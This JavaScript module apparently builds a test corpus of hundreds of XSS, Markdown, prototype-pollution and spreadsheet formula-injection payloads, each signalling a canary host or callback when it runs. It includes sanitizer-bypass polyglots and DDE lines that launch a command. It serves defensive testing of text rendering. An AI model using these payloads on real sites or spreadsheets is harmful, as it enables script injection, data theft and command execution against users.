/**
 * What a hostile author might put where a report has words: markup of every family that has been used to run script in
 * other people's pages, and what means something to a spreadsheet, to Markdown or to an object. Each would say so if it ran:
 * it calls `__ran` with its number, asks a host called canary.test for its number, or leaves for there.
 *
 * @module
 * @typedef {{ id: number, family: string, markup: string }} Payload
 * @typedef {(js: string, url: string) => string} Form a payload by what it runs, and what it asks for
 */

export const CANARY = "canary.test";

/** Characters as entities, each in the way that `one` says. @param {string} text @param {(code: number) => string} one */
const coded = (text, one) => [...text].map((c) => one(/** @type {number} */ (c.codePointAt(0)))).join("");
const decimal = (/** @type {string} */ text) => coded(text, (code) => `&#${code};`);
const hex = (/** @type {string} */ text) => coded(text, (code) => `&#x${code.toString(16)};`);
const padded = (/** @type {string} */ text) => coded(text, (code) => `&#${String(code).padStart(7, "0")}`);
const base64 = (/** @type {string} */ text) => Buffer.from(text).toString("base64");
const wide = (/** @type {string} */ text) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";

/** The shortest that runs by itself in markup that is put in as it is: what other forms break out to. @type {Form} */
const img = (js) => `<img src=x onerror=${js}>`;
/** @type {Form} */
const svg = (js) => `<svg onload=${js}>`;
/** @type {Form} */
const script = (js) => `<script>${js}</script>`;
/** @type {Form} */
const frame = (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`;

/** Every form of one kind out of lists of its parts. @param {...string[]} lists @returns {string[][]} */
const all = (...lists) => lists.reduce((rows, list) => rows.flatMap((row) => list.map((one) => [...row, one])), /** @type {string[][]} */ ([[]]));

/** What fires without anybody's help once it is in a page. */
const AT_ONCE = [
  ["img src=x", "error"], ["image src=x", "error"], [`img src=${GIF}`, "load"], ["img srcset=x", "error"], ["video src=x", "error"], ["audio src=x", "error"],
  ["input type=image src=x", "error"], ["object data=x", "error"], ["iframe src=about:blank", "load"], ["body", "load"], ["body", "pageshow"], ["svg", "load"],
  ["style", "load"], ["script src=x", "error"], ["link rel=stylesheet href=data:text/css,", "load"], ["link rel=stylesheet href=x", "error"], ["marquee", "start"],
  ["details open", "toggle"], ["input autofocus", "focus"], ["textarea autofocus", "focus"], ["select autofocus", "focus"], ["button autofocus", "focus"], ["a href=# autofocus", "focus"],
  ["div contenteditable autofocus", "focus"], ["video src=x", "loadstart"], ["embed src=about:blank", "load"],
];

/** What fires when somebody does something. */
const AT_HAND = ["click", "dblclick", "mouseover", "mouseenter", "mousemove", "mousedown", "pointerdown", "pointerover", "pointerenter", "pointerrawupdate", "touchstart", "wheel", "scroll",
  "keydown", "keyup", "input", "change", "beforeinput", "copy", "cut", "paste", "drag", "dragstart", "dragover", "drop", "contextmenu", "selectstart", "focusin", "blur",
  "animationstart", "transitionend", "beforetoggle", "beforematch", "securitypolicyviolation", "toggle", "close", "cancel", "auxclick", "gotpointercapture", "fullscreenchange"];

/** How an attribute is written. @type {Form[]} */
const ATTRIBUTES = [
  (js) => ` onerror="${js}"`, (js) => ` onerror='${js}'`, (js) => `/onerror=${js}`, (js) => `\nonerror=${js}`, (js) => `\tonerror=${js}`, (js) => `\fonerror=${js}`, (js) => `\ronerror=${js}`,
  (js) => ` ONERROR=${js}`, (js) => ` oNeRrOr = "${js}"`, (js) => ` onerror\n=\n${js}`, (js) => ` onerror=${decimal(js)}`, (js) => ` onerror=${hex(js)}`, (js) => ` onerror="${padded(js)}"`,
  (js) => ` onerror="javascript:${js}"`, (js) => ` onerror=\`\${${js}}\``, (js) => ` onerror="(()=>{${js}})()"`, (js) => ` onerror=eval('${js}')`, (js) => ` onerror=eval(atob('${base64(js)}'))`,
  (js) => ` onerror=Function('${js}')()`, (js) => ` onerror=setTimeout('${js}')`, (js) => ` onerror="[1].find(()=>${js})"`, (js) => ` "onerror=${js}`, (js) => ` x='>' onerror=${js}`, (js) => ` onerror=${js} onerror=1`,
];

/** How a link to script is written. @type {Form[]} */
const LINKS = [
  (js) => `javascript:${js}`, (js) => `JaVaScRiPt:${js}`, (js) => `java\tscript:${js}`, (js) => `java\nscript:${js}`, (js) => `\u0001javascript:${js}`, (js) => ` javascript:${js}`,
  (js) => `javascript&colon;${js}`, (js) => `java&Tab;script:${js}`, (js) => `java&NewLine;script&colon;${js}`, (js) => `&#106avascript:${js}`, (js) => `${hex("javascript:")}${js}`,
  (js) => `javascript://%0a${js}`, (js) => `javascript:/*x*/${js}`, (js) => `javascript:void(${js})`, (js) => `javascript:'<script>${js}<\\/script>'`,
];

/** Elements that take such a link. */
const TAKERS = ["<a href=\"LINK\">x</a>", "<iframe src=\"LINK\"></iframe>", "<form action=\"LINK\"><button>x</button></form>", "<button form=f formaction=\"LINK\">x</button><form id=f></form>"];
const RARE = ["<svg><a xlink:href=\"LINK\"><text y=9>x</text></a></svg>", "<svg><a href=\"LINK\"><text y=9>x</text></a></svg>", "<area href=\"LINK\">", "<object data=\"LINK\"></object>", "<embed src=\"LINK\">",
  "<math><mi href=\"LINK\">x</mi></math>", "<meta http-equiv=refresh content=\"0;url=LINK\">", "<base href=\"LINK//\"><a href=#>x</a>", "<input type=image formaction=\"LINK\" src=x>",
  "<svg><animate href=#a attributeName=href values=\"LINK\" /><a id=a><text y=9>x</text></a></svg>", "<svg><a><set attributeName=href to=\"LINK\" /><text y=9>x</text></a></svg>"];

/** What something that is put in one place must first get out of. */
const BREAKOUTS = ['">', "'>", "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</template>", "</select>", "</td></tr></table>", "</mark></p>", "</svg>", "</math>",
  "</noscript>", "</iframe>", "</xmp>", "*/", "\\\">", "*/</style>", "'-->\">", "%00\">", "<!--><", "<![CDATA[", "<!doctype x><", "<?x?>"];

/** @type {Record<string, Form[]>} */
const FAMILIES = {
  script: [
    script, (js) => `<ScRiPt>${js}</sCrIpT>`, (js) => `<script\n>${js}</script\t>`, (js) => `<script/x>${js}</script>`, (js) => `<script>${js}`, (js) => `<script type=module>${js}</script>`,
    (js) => `<script src="data:text/javascript,${js}"></script>`, (js) => `<script src=data:;base64,${base64(js)}></script>`, (_, url) => `<script src=${url}></script>`, (_, url) => `<script async src=//${url.slice(7)}></script>`,
    (_, url) => `<script type=module>import "${url}"</script>`, (js) => `<<script>${js}//<</script>`, (js) => `<script><!--\n${js}\n--></script>`, (js) => `<script>/*</script>*/<script>${js}</script>`,
    (js) => `<svg><script>${js}</script></svg>`, (js) => `<svg><script href="data:,${js}" /></svg>`, (js) => `<svg><script>${decimal(js)}</script></svg>`, (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js) => `<scr\0ipt>${js}</scr\0ipt>`, (js) => `<script\0>${js}</script>`, (js) => `<script>eval("${js}")</script>`, (js) => `<script>new Function("${js}")()</script>`, (js) => `<script>setTimeout("${js}")</script>`,
    (js) => `<script>document.write("<script>${js}<\\/script>")</script>`, (js) => `<script>document.title="ran";${js}</script>`, (_, url) => `<script>location="${url}"</script>`, (_, url) => `<script>fetch("${url}",{mode:"no-cors"})</script>`,
    (js) => `<script type="text/plain" data-part="wasm">x</script><script>${js}</script>`, (js) => `<script type=speculationrules>{}</script><script>${js}</script>`, (js) => `<script nomodule>1</script><script defer>${js}</script>`,
  ],
  event: [
    ...AT_ONCE.map(([tag, event]) => /** @type {Form} */ ((js) => `<${tag} on${event}=${js}>`)),
    (js) => `<video><source onerror=${js}></video>`, (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`, (js) => `<svg><set onbegin=${js} attributeName=x>`, (js) => `<svg><image href=x onerror=${js} />`,
    (js) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${js}>x</p>`, (js) => `<picture><source srcset=x><img onerror=${js}></picture>`, (js) => `<frameset onload=${js}>`,
    ...AT_HAND.map((event) => /** @type {Form} */ ((js) => `<b on${event}=${js} tabindex=0>x</b>`)),
    ...ATTRIBUTES.map((attribute) => /** @type {Form} */ ((js, url) => `<img src="x"${attribute(js, url)}>`)),
  ],
  link: [
    ...LINKS.flatMap((made, i) => TAKERS.filter((_, k) => k < 2 || i < 3).map((taker) => /** @type {Form} */ ((js, url) => taker.replace("LINK", made(js, url))))),
    ...RARE.map((taker) => /** @type {Form} */ ((js) => taker.replace("LINK", `javascript:${js}`))),
    (js) => `<iframe src="data:text/html,<script>parent.postMessage({ran:'${js}'},'*')</script>"></iframe>`, (js) => `<object data="data:text/html;base64,${base64(script(js, ""))}"></object>`,
    (js) => `<a href="data:text/html,${script(js, "")}">x</a>`, (js) => `<a href=vbscript:${js}>x</a>`, (js) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
  ],
  nest: [
    frame, (js) => `<template>${img(js, "")}</template>`, (js) => `<noscript><p title="</noscript>${img(js, "")}">`, (js) => `<svg></p><style><a id="</style>${img(js, "")}">`,
    (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hex(img(js, ""))}">`, (js) => `<form><math><mtext></form><form><mglyph><style></math>${img(js, "")}`,
    (js) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${js}">`, (js) => `<svg><![CDATA[><img title="]]>${img(js, "")}">`, (js) => `<xmp><p title="</xmp>${img(js, "")}">`,
    (js) => `<textarea><p title="</textarea>${img(js, "")}">`, (js) => `<title><p title="</title>${img(js, "")}">`, (js) => `<noembed><p title="</noembed>${img(js, "")}">`, (js) => `<noframes><p title="</noframes>${img(js, "")}">`,
    (js) => `<svg><foreignObject>${img(js, "")}</foreignObject></svg>`, (js) => `<svg><desc>${img(js, "")}</desc></svg>`, (js) => `<svg><title>${img(js, "")}</title></svg>`, (js) => `<math><annotation-xml encoding="text/html">${img(js, "")}</annotation-xml></math>`,
    (js) => `<select><option><style></option></select>${img(js, "")}</style>`, (js) => `<table><tr><td>${img(js, "")}</table>`, (js) => `<a><a><p>${img(js, "")}`, (js) => `<b><p><i>${img(js, "")}</b></i>`, (js) => `<details><summary>${img(js, "")}</details>`,
    (js) => `<listing>&lt;${img(js, "").slice(1, -1)}&gt;</listing>`, (js) => `&lt;script&gt;${js}&lt;/script&gt;`, (js) => `&amp;lt;script&amp;gt;${js}`, (js) => hex(img(js, "")), (js) => decimal(script(js, "")),
    (js) => `<!--><img src=x onerror=${js}>-->`, (js) => `<!-- x --!>${img(js, "")}`, (js) => `<!--[if gte IE 4]>${script(js, "")}<![endif]-->`, (js) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
    (_, url) => `<!DOCTYPE x [<!ENTITY y SYSTEM "${url}">]><x>&y;</x>`, (_, url) => `<?xml-stylesheet href="${url}" type="text/xsl"?>`, (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
    (js) => `<plaintext>${img(js, "")}`, (js) => `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${js}' /&gt;&lt;/svg&gt;#x" /></svg>`,
    (js) => `<div><div><div>${"<div>".repeat(60)}${img(js, "")}`, (js) => `<img src=x onerror=${js}`, (js) => `<img src="x` + `\` onerror=${js}>`, (js) => `<img title="x" title="><img src=x onerror=${js}>">`, (js) => `</p>${svg(js, "")}`, (js) => `<p>${svg(js, "")}<p>`,
  ],
  breakout: all(BREAKOUTS, ["img", "svg", "script"]).map(([out, kind]) => /** @type {Form} */ ((js, url) => out + { img, svg, script }[/** @type {"img"} */ (kind)](js, url))),
  attribute: [
    (js) => `" onmouseover="${js}`, (js) => `' onmouseover='${js}`, (js) => `" autofocus onfocus=${js} x="`, (js) => `' autofocus onfocus=${js} x='`, (js) => `\` onerror=\`${js}`, (js) => ` onclick=${js} `, (js) => `x" style="animation:k" onanimationstart="${js}`,
    (js) => `";${js};//`, (js) => `';${js};//`, (js) => `\\';${js};//`, (js) => `</script><script>${js}//`, (js) => `-${js}-`, (js) => `'-${js}-'`, (js) => `"-${js}-"`, (js) => `\${${js}}`, (js) => `{{constructor.constructor('${js}')()}}`, (js) => `#{${js}}`, (js) => `<%= ${js} %>`, (js) => `[[${js}]]`,
  ],
  encoding: [
    (js) => `\\x3cimg src=x onerror=${js}\\x3e`, (js) => `\\u003cimg src=x onerror=${js}\\u003e`, (js) => encodeURIComponent(img(js, "")), (js) => encodeURIComponent(encodeURIComponent(img(js, ""))), (js) => wide(img(js, "")), (js) => `＜img src=x onerror=${js}＞`,
    (js) => `﹤img src=x onerror=${js}﹥`, (js) => `‹img src=x onerror=${js}›`, (js) => `+ADw-img src+AD0-x onerror+AD0-${js}+AD4-`, (js) => `<im\0g src=x onerror=${js}>`, (js) => `<img\0src=x\0onerror=${js}>`, (js) => `\0<img src=x onerror=${js}>`,
    (js) => `<\u200bimg src=x onerror=${js}>`, (js) => `<i\u00admg src=x onerror=${js}>`, (js) => `\ufeff<img src=x onerror=${js}>`, (js) => `<img\u3000src=x\u3000onerror=${js}>`, (js) => `<img\u00a0src=x\u00a0onerror=${js}>`, (js) => `\u202e>${js}=rorreno x=crs gmi<\u202c`,
    (js) => `\u2066<img src=x onerror=${js}>\u2069`, (js) => `\ud83d<img src=x onerror=${js}>`, (js) => `<\u0131mg src=x onerror=${js}>`, (js) => `<\u017fcript>${js}</\u017fcript>`, (js) => `<img src=x on\u0435rror=${js}>`, (js) => `\u000b<img src=x onerror=${js}>`,
    (js) => `\u001b[31m<img src=x onerror=${js}>`, (js) => `&#0000060img src=x onerror=${js}&#0000062`, (js) => `&LT;img src=x onerror=${js}&GT;`, (js) => `锟斤拷<img src=x onerror=${js}>`, (js) => `Ã¥<img src=x onerror=${js}>`, (js) => `\u0338<img src=x onerror=${js}>\u0338`,
  ],
  style: [
    (_, url) => `<style>@import url("${url}");</style>`, (_, url) => `<style>*{background:url(${url})}</style>`, (_, url) => `<p style="background:url(${url})">x</p>`, (_, url) => `<p style="list-style:url('${url}')">x</p>`, (_, url) => `<link rel=stylesheet href=${url}>`,
    (js) => `<p style="width:expression(${js})">x</p>`, (js) => `<p style="behavior:url(javascript:${js})">x</p>`, (_, url) => `<style>p::after{content:url(${url})}</style><p>x</p>`, (_, url) => `<svg><style>*{fill:url(${url})}</style></svg>`, (_, url) => `;background:url(${url});`,
    (_, url) => `}*{background:url(${url})}`, (_, url) => `<style>@font-face{font-family:x;src:url(${url})}p{font-family:x}</style><p>x</p>`, () => "<style>body{display:none!important}</style>",
  ],
  request: [
    (_, url) => `<img src=${url}>`, (_, url) => `<img srcset="${url} 1x">`, (_, url) => `<video poster=${url}></video>`, (_, url) => `<video src=${url}></video>`, (_, url) => `<audio src=${url}></audio>`, (_, url) => `<iframe src=${url}></iframe>`, (_, url) => `<object data=${url}></object>`, (_, url) => `<embed src=${url}>`,
    (_, url) => `<link rel=prefetch href=${url}>`, (_, url) => `<link rel=preload as=image href=${url}>`, (_, url) => `<link rel=icon href=${url}>`, (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`, (_, url) => `<base href=${url}/><img src=a>`, (_, url) => `<table background=${url}><tr><td>x</table>`,
    (_, url) => `<body background=${url}>`, (_, url) => `<input type=image src=${url}>`, (_, url) => `<svg><image href=${url} /></svg>`, (_, url) => `<form action=${url}><button autofocus>x</button></form>`, (_, url) => `<a href=${url} ping=${url}>x</a>`, (_, url) => `<track src=${url}>`, (_, url) => `![x](${url})`, (_, url) => `<${url}>`,
  ],
  markdown: [
    (js) => `[x](javascript:${js})`, (js) => `[x](<javascript:${js}>)`, (js) => `[x]: javascript:${js}`, (js) => `![x](x"onerror="${js})`, (js) => `<javascript:${js}>`, (js) => `[x](data:text/html;base64,${base64(script(js, ""))})`, (js) => `\`\`\`html ${img(js, "")}`, (js) => `| ${img(js, "")} |`, (js) => `<p markdown=1>${img(js, "")}</p>`,
  ],
  object: [
    () => "__proto__", () => "constructor", () => "prototype", () => "hasOwnProperty", () => "toString", () => "__defineGetter__", (js) => `{"__proto__":{"onerror":"${js}"}}`, (js) => `__proto__[innerHTML]=${img(js, "")}`, (js) => `constructor.prototype.text=${js}`,
    (js) => `","edits":[["__proto__",{"name":"${js}"}]],"x":"`, () => "<form id=report><input name=append></form>", () => "<img name=getElementById>", () => "<a id=trustedTypes href=x:y>", () => "<form name=body><input id=append name=textContent>", () => "{0}{1}{2}", () => "$&$1$`$'", () => "%s%d%n",
  ],
  formula: [
    (_, url) => `=HYPERLINK("${url}","x")`, () => "=cmd|'/C calc'!A0", () => "+cmd|'/C calc'!A0", () => "-2+3+cmd|'/C calc'!A0", () => "@SUM(1+1)*cmd|'/C calc'!A0", (_, url) => `=WEBSERVICE("${url}")`, (_, url) => `=IMPORTXML("${url}","//a")`, (_, url) => `=IMAGE("${url}")`, () => "\t=1+1", () => " =1+1",
    () => "＝1+1", () => "＋1+1", () => "－1+1", () => "＠SUM(1)", () => '";=1+1;"', () => "\"\n=1+1", () => "',=1+1", () => "=1+1\",\"=1+1", () => "\u200b=1+1", () => "'=1+1",
  ],
  polyglot: [
    (js) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
    (js) => `'"--></style></script></title></textarea><svg/onload=${js}//>`, (js) => `"><img src=x onerror=${js}>'><svg onload=${js}>--><script>${js}</script>`, (js) => `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=${js}//>`,
    (js) => `-->'"/></sCript><svg x=">" onload=(co\\u006efirm)\`\`;${js}>`, (js) => `%3C!'/!"/!\\'/\\"/--!><Input/Type=Text AutoFocus */; OnFocus=${js} //>`, (js) => `=1+1<img src=x onerror=${js}>[x](javascript:${js})__proto__]]>`,
  ],
};

/** @type {Payload[]} */
export const PAYLOADS = [];
for (const [family, forms] of Object.entries(FAMILIES)) {
  for (const form of forms) {
    const id = PAYLOADS.length + 1;
    PAYLOADS.push({ id, family, markup: form(`top.__ran(${id})`, `http://${CANARY}/${id}`) });
  }
}

/** Those that would run or ask for something in a page that takes them as markup. */
export const MARKUP = PAYLOADS.filter(({ family }) => ["script", "event", "link", "nest", "breakout", "style", "request", "polyglot"].includes(family));
